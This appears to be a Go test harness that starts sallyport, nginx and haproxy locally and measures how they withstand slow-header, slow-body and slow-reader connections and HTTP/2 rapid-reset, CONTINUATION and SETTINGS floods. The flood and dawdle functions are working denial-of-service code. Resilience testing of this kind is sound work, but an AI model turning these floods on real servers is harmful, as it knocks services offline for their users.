//go:build linux

package main

import (
	"bytes"
	"crypto/tls"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// contender is a proxy with sane time limits: its configuration names the addresses of listener and upstream, and the folder.
type contender struct {
	name, file, config string
	command            func(file string) []string
}

var contenders = []contender{
	{"sallyport", "sallyport.yaml", `
version: 1
listen: [ { address: "{listen}", tls: { cert: cert.pem, key: key.pem } } ]
admin: { address: off }
store: { path: data }
log: { access: off }
identity: [ { name: corp, jwt: { issuer: "https://issuer.test/", jwks: "file:jwks.json", audience: [shop], algorithms: [ES256] } } ]
apis: [ { name: shop, spec: openapi.yaml, upstream: "http://{upstream}", security: { bearer: corp } } ]
`, func(file string) []string { return []string{"sallyport", "run", "--config", file} }},
	{"nginx", "nginx.conf", `
daemon off; worker_processes 2; worker_rlimit_nofile 20000; pid {dir}/nginx.pid; error_log /dev/null; user root;
events { worker_connections 16000; }
http { access_log off; client_header_timeout 10s; client_body_timeout 20s; send_timeout 20s; keepalive_timeout 120s; http2_max_concurrent_streams 128;
 client_body_temp_path {dir}/cb; proxy_temp_path {dir}/pt; fastcgi_temp_path {dir}/ft; uwsgi_temp_path {dir}/ut; scgi_temp_path {dir}/st;
 upstream u { server {upstream}; keepalive 256; }
 server { listen {listen} ssl http2 backlog=4096; ssl_certificate {dir}/cert.pem; ssl_certificate_key {dir}/key.pem; ssl_protocols TLSv1.3;
  location / { proxy_pass http://u; proxy_http_version 1.1; proxy_set_header Connection ""; proxy_max_temp_file_size 0; } } }
`, func(file string) []string { return []string{"nginx", "-c", file, "-e", "/dev/null"} }},
	{"haproxy", "haproxy.cfg", `
global
  nbthread 2
  maxconn 9000
  tune.ssl.default-dh-param 2048
defaults
  mode http
  timeout http-request 10s
  timeout connect 5s
  timeout client 20s
  timeout server 30s
  timeout http-keep-alive 120s
frontend f
  bind {listen} ssl crt {dir}/both.pem alpn h2,http/1.1 ssl-min-ver TLSv1.3
  default_backend b
backend b
  http-reuse always
  server s {upstream}
`, func(file string) []string { return []string{"haproxy", "-db", "-f", file} }},
}

func (c contender) installed() bool {
	_, err := exec.LookPath(c.command("")[0])
	return err == nil
}

// start runs a contender until end.
func (c contender) start(s *siege) (pid int, end func()) {
	address, err := freeAddress()
	if err != nil {
		s.t.Fatal(err)
	}
	s.target = address
	file := filepath.Join(s.dir, c.file)
	if err := os.WriteFile(file, []byte(strings.NewReplacer("{listen}", address, "{upstream}", s.upstream, "{dir}", s.dir).Replace(c.config)), 0o600); err != nil {
		s.t.Fatal(err)
	}
	args := c.command(file)
	cmd := exec.Command(args[0], args[1:]...)
	var log bytes.Buffer
	cmd.Dir, cmd.Stderr, cmd.Stdout = s.dir, &log, &log
	if err := cmd.Start(); err != nil {
		s.t.Fatal(err)
	}
	var ended atomic.Bool
	done := make(chan struct{})
	go func() { _ = cmd.Wait(); ended.Store(true); close(done) }()
	client := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: s.roots}}}
	defer client.CloseIdleConnections()
	await(s.t, c.name, func() bool {
		if ended.Load() {
			s.t.Fatalf("%s ended: %s", c.name, log.String())
		}
		return s.ask(client)
	})
	return cmd.Process.Pid, func() {
		_ = cmd.Process.Signal(syscall.SIGINT)
		select {
		case <-done:
		case <-time.After(5 * time.Second):
			_ = cmd.Process.Kill()
			<-done
		}
	}
}

// slowEach is the number of slow connections of each kind: 2,000, or what SALLYPORT_SLOW says for a smaller machine.
func slowEach() int {
	if n, err := strconv.Atoi(os.Getenv("SALLYPORT_SLOW")); err == nil {
		return n
	}
	return 2000
}

// attack is so many attackers of each kind, and how many of their connections are held before the measurement begins.
type attack struct {
	name  string
	force map[string]int
	held  int
}

var attacks = []attack{
	{"slow heads, bodies, readers", map[string]int{"head": slowEach(), "body": slowEach(), "reader": slowEach()}, 3 * slowEach() * 95 / 100},
	{"rapid reset", map[string]int{"reset": 8}, 0},
	{"CONTINUATION", map[string]int{"continuation": 8}, 0},
	{"SETTINGS", map[string]int{"settings": 8}, 0},
}

// force is attackers at work.
type force struct {
	*siege
	quit      chan struct{}
	all       sync.WaitGroup
	held, cut atomic.Int64
	number    atomic.Int64
}

func (f *force) disband() {
	close(f.quit)
	f.all.Wait()
}

// pause reports whether the attack goes on.
func (f *force) pause(d time.Duration) bool {
	select {
	case <-f.quit:
		return false
	case <-time.After(d):
		return true
	}
}

// enlist lets one more attacker come again whenever it was cut. The first comings are spread over time.
func (f *force) enlist(kind string) {
	n := f.number.Add(1)
	f.all.Go(func() {
		for wait := time.Duration(n) * 3 * time.Millisecond; f.pause(wait); wait = 500 * time.Millisecond {
			protocol := "http/1.1"
			if floods[kind] != nil {
				protocol = "h2"
			}
			c, err := f.dial(n, protocol)
			if err != nil {
				continue
			}
			f.held.Add(1)
			over := make(chan struct{})
			go func() {
				select {
				case <-f.quit:
					c.NetConn().Close() // whatever it waits for
				case <-over:
				}
			}()
			if floods[kind] != nil {
				f.flood(c, floods[kind])
			} else {
				f.dawdle(c, kind)
			}
			close(over)
			c.NetConn().Close()
			f.held.Add(-1)
			f.cut.Add(1)
		}
	})
}

// dawdle sends, or reads, a little each second until it is cut or the attack ends.
func (f *force) dawdle(c *tls.Conn, kind string) {
	begin := map[string]string{
		"head":   "GET /orders HTTP/1.1\r\nHost: api\r\n",
		"body":   "POST /orders HTTP/1.1\r\nHost: api\r\nAuthorization: " + f.token + "\r\nContent-Type: application/json\r\nContent-Length: 10000\r\n\r\n{\"a\":\"",
		"reader": "GET /big HTTP/1.1\r\nHost: api\r\nAuthorization: " + f.token + "\r\n\r\n",
	}[kind]
	more := map[string]string{"head": "X-A: b\r\n", "body": "x"}[kind]
	_, err := io.WriteString(c, begin)
	for one := make([]byte, 1); err == nil && f.pause(time.Second); {
		if more != "" {
			_, err = io.WriteString(c, more)
		} else {
			_, err = c.Read(one)
		}
	}
}

// floods are what attackers send over HTTP/2, again and again; n counts.
var floods = map[string]func(fr *http2.Framer, n uint32) error{
	"reset": func(fr *http2.Framer, n uint32) error {
		id := 2*n + 1
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: requestBlock, EndHeaders: true, EndStream: true}); err != nil {
			return err
		}
		return fr.WriteRSTStream(id, http2.ErrCodeCancel)
	},
	"continuation": func(fr *http2.Framer, n uint32) error {
		if n == 0 {
			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: requestBlock})
		}
		return fr.WriteContinuation(1, false, []byte{0, 1, 'x', 1, 'y'})
	},
	"settings": func(fr *http2.Framer, _ uint32) error {
		return fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	},
}

var requestBlock = func() []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "api"}, {":path", "/orders"}} {
		_ = e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}) // to memory
	}
	return b.Bytes()
}()

// flood sends 2,000 pieces a second until it is cut or the attack ends.
func (f *force) flood(c *tls.Conn, piece func(*http2.Framer, uint32) error) {
	go func() { _, _ = io.Copy(io.Discard, c) }()
	var out bytes.Buffer
	fr := http2.NewFramer(&out, nil)
	fr.AllowIllegalWrites = true
	_, err := io.WriteString(c, http2.ClientPreface)
	_ = fr.WriteSettings()
	for n := uint32(0); err == nil && f.pause(50*time.Millisecond); {
		for range 100 {
			_ = piece(fr, n) // to memory
			n++
		}
		_ = c.SetWriteDeadline(time.Now().Add(5 * time.Second))
		_, err = c.Write(out.Bytes())
		out.Reset()
	}
}
